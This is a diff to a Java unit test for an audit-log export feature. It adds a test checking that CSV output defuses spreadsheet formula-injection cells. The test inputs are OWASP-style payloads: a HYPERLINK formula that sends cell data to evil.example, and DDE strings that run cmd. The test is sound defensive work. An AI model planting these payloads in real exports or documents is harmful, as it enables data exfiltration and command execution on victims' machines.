@@ -14,6 +14,7 @@ import java.util.Map;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class ExportFormatTest {
 
@@ -47,6 +48,28 @@ class ExportFormatTest {
                 .containsEntry("type", TRICKY.type())
                 .containsEntry("details", TRICKY.details());
         assertThat(parsed.get(1)).containsEntry("subject", "a\r\nb").containsEntry("ip", "");
+    }
+
+    /** OWASP CSV injection: what a spreadsheet would run opens as text; jsonl and cef stay exact. */
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "\tTAB",
+        "\rCR"})
+    void csvCellsThatASpreadsheetWouldRunAreDefused(String hostile) throws Exception {
+        ExportRow row = new ExportRow(9, TRICKY.time(), TRICKY.recordedAt(), "service:vpn", hostile, hostile,
+                "failure", null, "{}", TRICKY.hash(), TRICKY.hash());
+        String csv = render(ExportFormat.CSV, row);
+        Map<String, String> parsed = new CsvMapper().readerFor(Map.class)
+                .with(CsvSchema.emptySchema().withHeader()).<Map<String, String>>readValues(csv).next();
+        assertThat(parsed).containsEntry("subject", "'" + hostile).containsEntry("type", "'" + hostile)
+                .containsEntry("details", "{}").containsEntry("outcome", "failure");
+        assertThat(new ObjectMapper().readTree(render(ExportFormat.JSONL, row)).get("subject").asText())
+                .isEqualTo(hostile);
+        assertThat(render(ExportFormat.CEF, row)).contains("duser=" + Cef.value(hostile));
     }
 
     @Test
@@ -105,6 +128,7 @@ class ExportFormatTest {
         "policy.updated, success, 5",
         "mfa.totp.reset, success, 5",
         "mfa.totp.verified, success, 3",
+        "mfa.unlocked, success, 5",
         "LOGIN, success, 3"
     })
     void severityFollowsTypeAndOutcome(String type, String outcome, int severity) {
